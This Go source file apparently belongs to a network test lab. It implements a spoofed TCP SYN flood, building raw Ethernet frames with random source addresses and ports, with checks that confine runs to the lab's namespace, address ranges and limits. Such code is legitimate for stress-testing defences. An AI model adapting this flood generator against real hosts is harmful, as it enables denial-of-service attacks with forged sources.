package lab

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// Bounds of a Flood: every run ends by count and by time.
const (
	MaxFloodDuration = time.Minute
	MaxFloodPackets  = 50_000_000
)

// Flood sends spoofed TCP SYNs, as an attacker on the internet would, from
// the lab's attacker host: Ethernet frames written straight to its eth0
// (AF_PACKET), addressed to DstMAC (the dispatcher's), from random sources
// in Sources and random ports, to Target, as fast as one thread can, until
// Duration has passed or MaxPackets are sent. It refuses to run anywhere
// but in the attacker's network namespace, or to leave the lab's ranges.
type Flood struct {
	Attacker   *Host
	DstMAC     net.HardwareAddr
	Target     netip.AddrPort // IPv4
	Sources    netip.Prefix   // IPv4, inside the lab's ranges
	Duration   time.Duration
	MaxPackets int
}

// FloodResult is what a Flood sent.
type FloodResult struct {
	Sent    int
	Elapsed time.Duration
}

// Rate is the packets a second the flood reached.
func (r FloodResult) Rate() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Sent) / r.Elapsed.Seconds()
}

func (f *Flood) validate() error {
	refuse := func(format string, args ...any) error {
		return fmt.Errorf("%w: flood: %s", ErrRefused, fmt.Sprintf(format, args...))
	}
	switch {
	case f.Attacker == nil || f.Attacker.NS == nil || f.Attacker.Name != "attacker":
		return refuse("no lab attacker to run from")
	case len(f.DstMAC) != 6:
		return refuse("destination MAC %v", f.DstMAC)
	case !f.Target.Addr().Is4() || !InLabRange(f.Target.Addr()) || f.Target.Port() == 0:
		return refuse("target %s is not an IPv4 address and port in the lab's networks %v", f.Target, LabRanges)
	case !f.Sources.IsValid() || !f.Sources.Addr().Is4() || !InLabRange(f.Sources.Addr()) ||
		!InLabRange(netip.PrefixFrom(f.Sources.Addr(), f.Sources.Bits()).Masked().Addr()) || f.Sources.Bits() < 16:
		return refuse("sources %s are not an IPv4 prefix of at most 65,536 addresses in the lab's networks", f.Sources)
	case f.Duration <= 0 || f.Duration > MaxFloodDuration:
		return fmt.Errorf("%w: flood duration %v, want up to %v", ErrBadOptions, f.Duration, MaxFloodDuration)
	case f.MaxPackets <= 0 || f.MaxPackets > MaxFloodPackets:
		return fmt.Errorf("%w: flood of %d packets, want up to %d", ErrBadOptions, f.MaxPackets, MaxFloodPackets)
	}
	return nil
}

// Run sends the flood and reports what it sent. The error reports a run
// that refused to start or a socket that failed.
func (f *Flood) Run(ctx context.Context) (FloodResult, error) {
	if err := f.validate(); err != nil {
		return FloodResult{}, err
	}
	var res FloodResult
	err := f.Attacker.NS.Do(func() error {
		if _, err := checkClientNS(f.Attacker.NS.Name()); err != nil {
			return err
		}
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return fmt.Errorf("flood: packet socket: %w", err)
		}
		defer unix.Close(fd)
		to := &unix.SockaddrLinklayer{Ifindex: f.Attacker.Ifindex, Halen: 6}
		copy(to.Addr[:], f.DstMAC)

		frame := f.template()
		base := binary.BigEndian.Uint32(f.Sources.Masked().Addr().AsSlice())
		span := uint32(1) << (32 - f.Sources.Bits())
		rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 0x5eed))
		start := time.Now()
		deadline := start.Add(f.Duration)
		for res.Sent < f.MaxPackets {
			if res.Sent%1024 == 0 && (time.Now().After(deadline) || ctx.Err() != nil) {
				break
			}
			src := base + rng.Uint32N(span)
			fillSYN(frame, src, uint16(1024+rng.IntN(64512)), rng.Uint32())
			if err := unix.Sendto(fd, frame, 0, to); err != nil {
				if err == unix.ENOBUFS || err == unix.EAGAIN {
					continue
				}
				return fmt.Errorf("flood: send: %w", err)
			}
			res.Sent++
		}
		res.Elapsed = time.Since(start)
		return nil
	})
	return res, err
}

// template is the flood's frame with everything but the source, its port
// and the checksums filled in: Ethernet, IPv4 (20 bytes), TCP SYN (20).
func (f *Flood) template() []byte {
	b := make([]byte, 14+20+20)
	copy(b[0:6], f.DstMAC)
	copy(b[6:12], f.Attacker.MAC)
	binary.BigEndian.PutUint16(b[12:], unix.ETH_P_IP)
	ip := b[14:34]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], 40)
	ip[8] = 64
	ip[9] = unix.IPPROTO_TCP
	copy(ip[16:20], f.Target.Addr().AsSlice())
	tcp := b[34:54]
	binary.BigEndian.PutUint16(tcp[2:], f.Target.Port())
	tcp[12] = 5 << 4
	tcp[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	return b
}

// fillSYN writes a source address, port and sequence number into a
// template frame and computes both checksums.
func fillSYN(b []byte, src uint32, sport uint16, seq uint32) {
	ip, tcp := b[14:34], b[34:54]
	binary.BigEndian.PutUint32(ip[12:], src)
	binary.BigEndian.PutUint16(ip[10:], 0)
	binary.BigEndian.PutUint16(ip[10:], checksum(0, ip))
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint32(tcp[4:], seq)
	binary.BigEndian.PutUint16(tcp[16:], 0)
	pseudo := uint32(0)
	pseudo += uint32(binary.BigEndian.Uint16(ip[12:])) + uint32(binary.BigEndian.Uint16(ip[14:]))
	pseudo += uint32(binary.BigEndian.Uint16(ip[16:])) + uint32(binary.BigEndian.Uint16(ip[18:]))
	pseudo += unix.IPPROTO_TCP + uint32(len(tcp))
	binary.BigEndian.PutUint16(tcp[16:], checksum(pseudo, tcp))
}

// checksum is the Internet checksum of b, starting from sum.
func checksum(sum uint32, b []byte) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
